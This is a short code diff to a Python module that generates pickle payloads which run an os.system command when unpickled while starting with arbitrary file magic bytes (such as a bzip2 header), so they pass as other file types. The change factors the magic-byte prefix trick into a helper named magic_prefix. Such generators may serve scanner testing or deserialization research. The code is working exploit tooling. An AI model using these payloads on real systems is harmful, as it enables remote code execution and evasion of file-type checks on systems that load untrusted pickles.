@@ -309,10 +309,15 @@ def bzh_prefix(cmd: str) -> bytes:
     return b"BZh1\x00" + b"\x00" * n + b"0" + os_system(cmd, 2)[2:]
 
 
+def magic_prefix(magic: bytes) -> bytes:
+    """Opcodes that start a pickle with `magic` and leave nothing behind: a BINBYTES of it,
+    then POP. Any magic fits."""
+    return b"B" + struct.pack("<I", len(magic)) + magic + b"0"
+
+
 def prefixed(magic: bytes, cmd: str) -> bytes:
-    """A pickle that starts with `magic` as the bytes of a BINBYTES argument it then drops
-    (`B` + 4-byte length + magic + POP): any magic fits."""
-    return b"B" + struct.pack("<I", len(magic)) + magic + b"0" + os_system(cmd, 2)[2:]
+    """An os.system pickle that starts with `magic` (see magic_prefix)."""
+    return magic_prefix(magic) + os_system(cmd, 2)[2:]
 
 
 def zstd(data: bytes) -> bytes:
